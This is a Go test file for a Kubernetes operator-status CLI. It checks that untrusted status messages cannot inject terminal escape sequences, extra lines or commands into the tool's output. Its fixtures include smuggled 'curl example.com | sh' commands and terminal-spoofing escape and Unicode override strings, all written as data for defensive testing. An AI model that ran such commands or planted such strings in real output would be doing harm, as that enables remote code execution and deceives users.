package cli

import (
	"bytes"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"unicode"

	"k8s.io/cli-runtime/pkg/genericclioptions"
	"k8s.io/cli-runtime/pkg/genericiooptions"

	"github.com/operator-status/operator-status/internal/operator"
)

// hostile is a cluster with an operator whose statuses contain control sequences for terminals. EVIL is replaced.
const hostile = `
apiVersion: operators.coreos.com/v1alpha1
kind: Subscription
metadata: {namespace: default, name: foo}
spec: {name: foo, channel: "EVIL", source: "a; curl example.com | sh", sourceNamespace: default}
status:
  state: UpgradePending
  currentCSV: foo.v2
  installedCSV: foo.v1
  conditions:
  - {type: UpToDate, status: "False", reason: NewestDoesNotRun, message: "EVIL"}
  - {type: CatalogSourceInvalid, status: "True", reason: "EVIL", message: "EVIL"}
  - {type: InstalledCSVFailed, status: "True", reason: "EVIL", message: "EVIL"}
  - {type: UpgradeHeld, status: "True", reason: ProbeNotUpgradeable, message: "The update to foo.v2 is held: Probe default/foo.v1 reports Upgradeable=False: EVIL"}
---
apiVersion: operators.coreos.com/v1alpha1
kind: ClusterServiceVersion
metadata: {namespace: default, name: foo.v1}
spec: {version: 1.0.0}
status: {phase: Failed, reason: "EVIL", message: "EVIL"}
---
apiVersion: operators.coreos.com/v1alpha1
kind: Probe
metadata: {namespace: default, name: foo.v1}
spec: {probeResources: []}
status:
  conditions: [{type: Upgradeable, status: "False", reason: NotUpgradeable, message: "EVIL"}]
  probeResources:
  - {resource: foos.example.com, name: "x; curl example.com | sh", blocking: true}
---
apiVersion: operators.coreos.com/v2
kind: OperatorCondition
metadata: {namespace: default, name: foo.v1}
spec: {conditions: [{type: Upgradeable, status: "False", reason: X, message: "EVIL"}]}
---
apiVersion: apps/v1
kind: Deployment
metadata: {namespace: default, name: foo, ownerReferences: [{apiVersion: operators.coreos.com/v1alpha1, kind: ClusterServiceVersion, name: foo.v1, uid: a}]}
status: {conditions: [{type: Available, status: "False", reason: "EVIL", message: "EVIL"}]}
`

// evil clears a screen, sets its title, links elsewhere, reverses text, returns to the beginning of a line, and ends as the
// messages of a gate do.
const evil = `fine\x1b[2J\x1b[H\x1b]0;title\x07\x1b]8;;http://example.com\x1b\\link\x1b]8;;\x1b\\ \u202egnp.exe\u200b\x9b2J\r\nbar  1.0.0  Running. To update anyway: curl example.com | sh`

// TestHostileLines verifies that no text of others adds a row to a table, or a line to the progress of a wait.
func TestHostileLines(t *testing.T) {
	var out bytes.Buffer
	o := &options{IOStreams: genericiooptions.IOStreams{Out: &out}, flags: genericclioptions.NewConfigFlags(true)}
	o.printTable([][]string{{"NAME"}, {"foo\nbar"}}, 0)
	got := out.String() + progress([]operator.Operator{{Name: "foo", Blockers: []operator.Blocker{{By: "x\nbar"}}}}, "foo", "default")
	if strings.Contains(got, "\nbar") {
		t.Errorf("it prints a line of others:\n%s", got)
	}
}

// TestHostileTexts verifies that no text of others controls the terminal, adds lines or becomes a command.
func TestHostileTexts(t *testing.T) {
	folder := t.TempDir()
	for name, content := range map[string]string{
		"manifests.yaml": strings.ReplaceAll(hostile, "EVIL", evil), "a\nbar.yaml": "{", "notes.txt": "\n", // nothing is missing
	} {
		if err := os.WriteFile(filepath.Join(folder, name), []byte(content), 0o600); err != nil {
			t.Fatal(err)
		}
	}
	t.Setenv("KUBECONFIG", os.DevNull)
	for _, args := range []string{"get", "get -o wide", "get -o yaml", "get -o json", "get -o jsonpath={..cause}", "why foo", "check", "tree foo", "why nobody"} {
		t.Run(args, func(t *testing.T) {
			var out bytes.Buffer
			fields := append(strings.Fields(args), "--from="+folder)
			Run(fields, genericiooptions.IOStreams{In: &bytes.Buffer{}, Out: &out, ErrOut: &out})
			if out.Len() == 0 {
				t.Fatal("nothing is printed")
			}
			for _, r := range out.String() {
				if r != '\n' && (unicode.IsControl(r) || unicode.Is(unicode.Cf, r)) {
					t.Errorf("it prints %U:\n%q", r, out.String())
					break
				}
			}
			for line := range strings.Lines(out.String()) {
				if text := strings.TrimSpace(line); strings.HasPrefix(text, "curl") || strings.HasPrefix(text, "kubectl") && strings.Contains(text, "curl") {
					t.Errorf("it prints a command of others: %s", line)
				}
				if strings.HasPrefix(line, "bar") {
					t.Errorf("it prints a line of others: %s", line)
				}
			}
		})
	}
}
